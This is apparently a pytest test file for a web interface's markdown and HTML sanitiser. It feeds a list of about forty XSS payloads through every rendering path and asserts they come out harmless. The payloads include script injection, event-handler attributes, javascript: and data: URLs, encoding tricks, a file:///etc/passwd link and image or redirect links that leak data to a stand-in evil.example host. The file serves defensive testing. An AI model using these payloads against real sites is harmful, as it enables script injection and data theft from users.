"""What models and people write can do nothing on a page, however it is written; and it is all there."""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rostra.actions import Finish, Retract, Show
from rostra.views import Ballot, Button, Buttons, Choice, Choices, Field, File, Form, Table, Text, View
from rostra_adapters.web.drawing import open_drawing
from rostra_adapters.web.markdown import ATTRIBUTES, LONGEST, TAGS, Growing, html, line
from rostra_adapters.web.shown import Exchange, face_of

ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src=//evil.example></iframe>",
    "<style>*{background:url(//evil.example)}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=/sign-out method=post><button>x",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example)",
    "[x](/sign-out)",
    "[x](file:///etc/passwd)",
    "![x](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    "![x][y]\n\n[y]: https://evil.example/x.png",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://e.example "onmouseover=alert(1)")',
    '[x](https://e.example/"onmouseover="alert(1))',
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "~~~ javascript onload=alert(1)\nx\n~~~",
    "| <img src=x onerror=alert(1)> |\n|-|\n| [x](javascript:alert(1)) |",
    "# <b onclick=alert(1)>x</b>",
    "- <script\n>alert(1)</script\n>",
    "> <svg><script>alert(1)</script></svg>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "</div></article><script>alert(1)</script>",
    "{{ 7*7 }}{% raw %}<script>",
    "\u2028<script>alert(1)</script>\u2029",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)


class Found(HTMLParser):
    """Everything in HTML that could do something."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def tags(text: str) -> list[tuple[str, dict[str, str | None]]]:
    found = Found()
    found.feed(text)
    found.close()
    return found.tags


def harmless(text: str) -> None:
    """Assert that ``text`` has nothing but what the sanitiser lets through."""
    for tag, attributes in tags(text):
        assert tag in TAGS, text
        assert attributes.keys() <= {*ATTRIBUTES.get(tag, ()), "rel"}, text
        if tag == "a" and "href" in attributes:
            assert re.match(r"https?://|mailto:", attributes["href"] or "", re.IGNORECASE), text


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_is_written_can_do_anything(attack: str) -> None:
    for text in (attack, f"before {attack} after", f"- item\n\n  {attack}", f"> {attack}", f"**{attack}**"):
        harmless(html(text))
        harmless(line(text))
        growing = Growing()
        for character in text:
            harmless(growing.grow(character))
        harmless(growing.settled + growing.tail)


@given(
    st.lists(st.sampled_from([*ATTACKS, "\n", "\n\n", "```\n", "> ", "- ", "[", "](", ")", "<", "`", "|"]))
)
def test_nothing_that_is_put_together_can_do_anything(parts: list[str]) -> None:
    harmless(html("".join(parts)))


def everywhere(attack: str) -> Iterator[str]:
    """Yield the HTML of all that can show ``attack``."""
    drawing = open_drawing("Rostra")
    button = Button(control="/x", label=attack)
    parts = (
        Text(text=attack),
        Buttons(buttons=(button,)),
        Choices(control="/a", prompt=attack, choices=(Choice(value=attack, label=attack),)),
        Choices(control="/b", prompt=attack, choices=(Choice(value=attack, label=attack),) * 9),
        Choices(control="/c", prompt=attack, choices=(Choice(value=attack, label=attack),), most=2),
        Form(
            control="/d",
            title=attack,
            fields=(
                Field(name=attack, label=attack, value=attack),
                Field(name=attack, label=attack, value=attack, lines=3),
            ),
        ),
        Ballot(control="/e", question=attack, answers=(attack, attack)),
        Table(header=(attack,), rows=((attack,),)),
        File(name=attack, media_type=attack, data=b"", description=attack),
        File(name=attack, media_type="image/png", data=b"", description=attack),
    )
    yield drawing.answer(face_of("r", Show(reply="r", view=View(parts=parts))))
    yield drawing.answer(face_of("r", Finish(reply="r", text=attack, buttons=(button,))))
    face = face_of("r", Retract(reply="r", text=attack))
    yield drawing.answer(face)
    yield drawing.exchange(Exchange(id="x", asked=attack, again=True, answer=face, after=face))
    yield drawing.page("error.html", status=404, said=attack)


@pytest.mark.parametrize("attack", [*ATTACKS, '"><script>alert(1)</script>', "' onclick='alert(1)"])
def test_whatever_shows_it_shows_it_as_text(attack: str) -> None:
    plain = [{tag for tag, _ in tags(page)} for page in everywhere("harmless")]
    for page, usual in zip(everywhere(attack), plain, strict=True):
        for tag, attributes in tags(page):
            assert tag in usual | TAGS, (tag, page)
            assert not [name for name in attributes if name.startswith("on") or name == "style"], page
            address = attributes.get("href") or attributes.get("src") or ""
            assert not address or address.startswith(("http://", "https://", "mailto:", "/")), page


def test_markdown_is_shown_as_people_mean_it() -> None:
    assert html("**b** _i_ ~~s~~ `c`") == "<p><strong>b</strong> <em>i</em> <s>s</s> <code>c</code></p>\n"
    assert html("<b>b</b> & <i>") == "<p>&lt;b&gt;b&lt;/b&gt; &amp; &lt;i&gt;</p>\n"
    assert html("a\nb") == "<p>a<br>\nb</p>\n"
    assert '<a href="https://e.example" target="_blank" rel="noopener noreferrer nofollow ugc">x</a>' in html(
        "[x](https://e.example)"
    )
    assert html("```py\n1 < 2\n```") == '<p class="lang">py</p><pre><code>1 &lt; 2\n</code></pre>\n'
    assert html("|a|\n|-|\n|1|").count("<t") == 7


def test_what_stands_behind_a_fence_is_not_lost() -> None:
    assert "and so it ended" in html("``` and so it ended")


def test_a_text_that_would_take_long_to_read_is_shown_as_it_is() -> None:
    long = "[" * (LONGEST + 1)
    assert html(long) == f"<pre>{long}</pre>"


WORDS = st.lists(
    st.sampled_from(
        [
            "word",
            "**b**",
            "\n",
            "\n\n",
            "```\n",
            "~~~\n",
            "- item\n",
            "1. one\n",
            "> quote\n",
            "# h\n",
            "    code\n",
            "|a|\n",
        ]
    ),
    max_size=40,
)


@given(WORDS, st.integers(1, 7))
def test_a_growing_text_has_all_its_words_at_every_moment(parts: list[str], step: int) -> None:
    text = "".join(parts)
    growing = Growing()
    settled = ""
    for start in range(0, len(text), step):
        settled += growing.grow(text[start : start + step])
        assert growing.settled == settled
        assert (settled + growing.tail).count("word") == growing.text.count("word")
    assert growing.text == text


def test_blocks_that_are_over_are_made_once() -> None:
    growing = Growing("first\n\n")
    assert growing.settled == ""
    assert growing.grow("second") == "<p>first</p>\n"
    assert growing.tail == "<p>second</p>\n"
    assert growing.grow("\n\n```\na\n\nb") == "<p>second</p>\n"
    assert growing.grow("\n\nc\n```\n\nthird") == "<pre><code>a\n\nb\n\nc\n</code></pre>\n"
